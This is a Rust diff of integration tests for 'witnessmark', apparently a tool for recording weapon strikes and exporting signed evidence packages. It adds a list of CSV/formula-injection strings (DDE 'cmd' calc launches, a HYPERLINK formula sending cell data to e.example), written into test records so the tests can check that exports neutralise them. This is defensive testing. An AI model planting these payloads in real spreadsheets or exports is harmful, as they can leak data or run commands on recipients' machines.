@@ -8,6 +8,12 @@ use std::sync::OnceLock;
 
 use assert_cmd::Command as Program;
 use tempfile::TempDir;
+use witnessmark::case::{Author, Case};
+use witnessmark::exchange::package::read::check;
+use witnessmark::exchange::package::{PackageError, Plan, export};
+use witnessmark::job::Progress;
+use witnessmark::model::record::RecordKind;
+use witnessmark::model::{Change, Component, RecordRef, Strike};
 
 /// The program in a home of its own.
 struct Home(TempDir);
@@ -19,6 +25,7 @@ impl Home {
         let home = Self(tempfile::tempdir().unwrap());
         let case = CASE.get_or_init(|| {
             home.ok(&["demo", "--no-window", "--case", "case.witness"]);
+            add_what_is_hard(&home.path("case.witness"));
             home.ok(&["sign", "case.witness"]);
             std::fs::read(home.path("case.witness")).unwrap()
         });
@@ -61,6 +68,55 @@ impl Home {
         self.ok(&["package", "case.witness", "out", "--sign"]);
         self.path("out")
     }
+}
+
+/// Texts with which spreadsheets were attacked, and others that break tables (OWASP, "CSV Injection").
+const HOSTILE: [&str; 14] = [
+    "=1+1",
+    "=HYPERLINK(\"http://e.example/?\"&A1,\"x\")",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＠SUM(1)",
+    "'=1+1",
+    "a\r\nb\"c,d;e",
+    "-5",
+    "Київ 한글 \u{202e}abc",
+];
+
+/// Records whose texts are hostile and whose numbers are negative.
+fn add_what_is_hard(path: &Path) {
+    let author = Author {
+        person: "=O. Tester()".to_owned(),
+        device: "11111111-1111-7111-8111-111111111111".to_owned(),
+        device_name: "test laptop".to_owned(),
+    };
+    let mut case = Case::open(path, author).unwrap();
+    for (number, text) in (0i32..).zip(HOSTILE) {
+        let strike = Strike {
+            title: text.to_owned(),
+            notes: text.to_owned(),
+            place_name: Some(text.to_owned()),
+            latitude: Some(-33.868_812_345 - f64::from(number)),
+            longitude: Some(-151.2 + f64::from(number) / 3.0),
+            radius_m: (number % 2 == 0).then_some(250.0),
+            ..Strike::default()
+        };
+        case.apply(Change::Create(strike.into())).unwrap();
+    }
+    let component = Component {
+        title: "=1+1".to_owned(),
+        latitude: Some(50.45),
+        longitude: Some(30.52),
+        mass_g: Some(0.1),
+        ..Component::default()
+    };
+    case.apply(Change::Create(component.into())).unwrap();
+    case.close().unwrap();
 }
 
 /// Runs another program. `None`, with a word, when it is not installed.
@@ -252,4 +308,164 @@ fn what_stands_there_already_is_not_touched() {
     assert_eq!(std::fs::read(home.path("file.zip")).unwrap(), b"mine");
     assert_eq!(std::fs::read(home.path("new.zip.partial")).unwrap(), b"mine");
     assert_eq!(std::fs::read_dir(home.path("new.partial")).unwrap().count(), 1);
+}
+
+#[test]
+fn our_own_reader_accepts_folder_and_archive_and_tells_what_is_wrong() {
+    let home = Home::with_case();
+    let package = home.demonstration();
+    home.ok(&["package", "case.witness", "out.zip", "--zip", "--sign"]);
+    for path in ["out", "out.zip"] {
+        let said = home.ok(&["package", "check", path]);
+        assert!(said.contains("Sound:") && said.contains("SHA256:"), "{said}");
+        let json: serde_json::Value =
+            serde_json::from_str(&home.ok(&["package", "check", path, "--json"])).unwrap();
+        assert_eq!(json["faults"], serde_json::json!([]));
+        assert_eq!(json["signatures"], 1);
+    }
+    std::fs::write(package.join("data/records/strike.csv"), "id\r\n").unwrap();
+    let (code, out, err) = home.run(&["package", "check", "out"]);
+    assert_eq!(code, 1);
+    assert!(err.contains("data/records/strike.csv: it was changed"), "{err}");
+    assert!(out.contains("were found") || out.contains("was found"), "{out}");
+    let (code, _, err) = home.run(&["package", "check", "out.zip", "--signed-by", "SHA256:other"]);
+    assert_eq!(code, 1);
+    assert!(err.contains("another key"), "{err}");
+}
+
+#[test]
+fn a_selection_holds_what_belongs_to_it_and_tells_nothing_of_the_rest() {
+    let home = Home::with_case();
+    let list = home.ok(&["list", "case.witness", "markings", "--json"]);
+    let list: serde_json::Value = serde_json::from_str(&list).unwrap();
+    let component = list[0]["component"].as_str().unwrap();
+    let shown: serde_json::Value =
+        serde_json::from_str(&home.ok(&["show", "case.witness", component, "--json"])).unwrap();
+    let weapon = shown.to_string();
+    let weapon = weapon.split("\"weapon\":\"").nth(1).unwrap().split('"').next().unwrap();
+    home.ok(&["package", "case.witness", "part", "--of", "weapon", weapon]);
+    let verdict = check(&home.path("part"), None, &Progress::new()).unwrap();
+    assert!(verdict.is_sound(), "{:?}", verdict.faults);
+    let count = |folder: &str, kind: &str| {
+        let lines =
+            std::fs::read_to_string(home.path(folder).join(format!("data/records/{kind}.jsonl"))).unwrap();
+        lines.lines().count()
+    };
+    assert_eq!((count("part", "weapon"), count("part", "strike")), (1, 1));
+    assert!(
+        count("part", "component") > 0 && count("part", "marking") > 0 && count("part", "transcription") > 0
+    );
+    assert!(count("part", "photo") > 0);
+    assert!(!home.path("part/data/history").exists());
+    home.ok(&[
+        "package",
+        "case.witness",
+        "more",
+        "--of",
+        "weapon",
+        weapon,
+        "--with-history",
+    ]);
+    let verdict = check(&home.path("more"), None, &Progress::new()).unwrap();
+    assert!(
+        verdict.is_sound() && verdict.signatures == 1,
+        "{:?}",
+        verdict.faults
+    );
+    home.ok(&["package", "case.witness", "bare", "--without-history"]);
+    let verdict = check(&home.path("bare"), None, &Progress::new()).unwrap();
+    assert!(verdict.is_sound() && verdict.entries == 0, "{:?}", verdict.faults);
+    assert!(count("part", "strike") < count("bare", "strike"));
+    let (code, _, err) = home.run(&["package", "case.witness", "x", "--of", "tag", weapon]);
+    assert!(code == 2 && err.contains("can’t be chosen"), "{err}");
+    let (code, _, _) = home.run(&["package", "case.witness", "x", "--of", "strike", weapon]);
+    assert_eq!(code, 1);
+    assert!(!home.path("x").exists() && !home.path("x.partial").exists());
+}
+
+#[test]
+fn an_export_that_was_cut_short_is_gone_on_with() {
+    let home = Home::with_case();
+    let author = Author {
+        person: "O. Tester".to_owned(),
+        device: "11111111-1111-7111-8111-111111111111".to_owned(),
+        device_name: "test laptop".to_owned(),
+    };
+    let case = Case::open(&home.path("case.witness"), author).unwrap();
+    let reader = case.reader().unwrap();
+    let stopped = Progress::new();
+    stopped.cancel();
+    let to = home.path("out");
+    let refused = export(&reader, &Plan::whole(), None, &to, &stopped);
+    assert!(matches!(refused, Err(PackageError::Cancelled(kept)) if kept == home.path("out.partial")));
+    let whole = export(
+        &reader,
+        &Plan::whole(),
+        None,
+        &home.path("other"),
+        &Progress::new(),
+    )
+    .unwrap();
+    // As a kill leaves it: some originals whole, one half, one changed, and one of records that are gone since.
+    let folder = home.path("out.partial/data/originals");
+    std::fs::create_dir_all(&folder).unwrap();
+    let mut names: Vec<_> = std::fs::read_dir(home.path("other/data/originals"))
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .collect();
+    names.sort();
+    for (number, path) in names.iter().enumerate() {
+        let mut bytes = std::fs::read(path).unwrap();
+        match number {
+            0 => bytes.truncate(bytes.len() / 2),
+            1 => bytes[10] ^= 1,
+            _ => {}
+        }
+        std::fs::write(folder.join(path.file_name().unwrap()), bytes).unwrap();
+    }
+    std::fs::write(folder.join(format!("{}.jpg", "0".repeat(64))), "stale").unwrap();
+    let made = export(&reader, &Plan::whole(), None, &to, &Progress::new()).unwrap();
+    assert_eq!(
+        (made.originals, made.kept),
+        (whole.originals, whole.originals - 2)
+    );
+    assert!(!home.path("out.partial").exists());
+    let difference = accepts("diff", &["-r", "out", "other"], home.0.path(), None);
+    assert!(difference.is_none_or(|said| said.is_empty()));
+    // A file that no export of ours wrote is never taken out.
+    let again = home.path("again");
+    let refused = export(&reader, &Plan::whole(), None, &again, &stopped);
+    assert!(refused.is_err());
+    std::fs::write(home.path("again.partial/mine.txt"), "mine").unwrap();
+    let refused = export(&reader, &Plan::whole(), None, &again, &Progress::new());
+    assert!(matches!(refused, Err(PackageError::Foreign(file)) if file.ends_with("mine.txt")));
+    // Nor is a folder of another case gone on with.
+    let some = Plan::of(vec![RecordRef::new(RecordKind::Strike, first_strike(&reader))]);
+    let refused = export(&reader, &some, None, &again, &Progress::new());
+    assert!(matches!(refused, Err(PackageError::Foreign(_))));
+}
+
+fn first_strike(reader: &witnessmark::case::Reader) -> String {
+    reader.all::<Strike>().unwrap()[0].id.to_string()
+}
+
+#[test]
+fn photos_at_hand_are_handed_over_byte_for_byte() {
+    let home = Home::with_case();
+    let folder = std::env::var("WITNESSMARK_PHOTOS").unwrap_or_else(|_| {
+        let own = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/photos");
+        own.to_str().unwrap().to_owned()
+    });
+    home.ok(&["new", "photos.witness"]);
+    // Some of them are refused by design; the rest goes on.
+    home.run(&["import", "photos.witness", &folder]);
+    home.ok(&["package", "photos.witness", "photos", "--sign"]);
+    let package = home.path("photos");
+    let verdict = check(&package, None, &Progress::new()).unwrap();
+    assert!(
+        verdict.is_sound() && verdict.originals > 5,
+        "{:?}",
+        verdict.faults
+    );
+    others_accept(&package);
 }
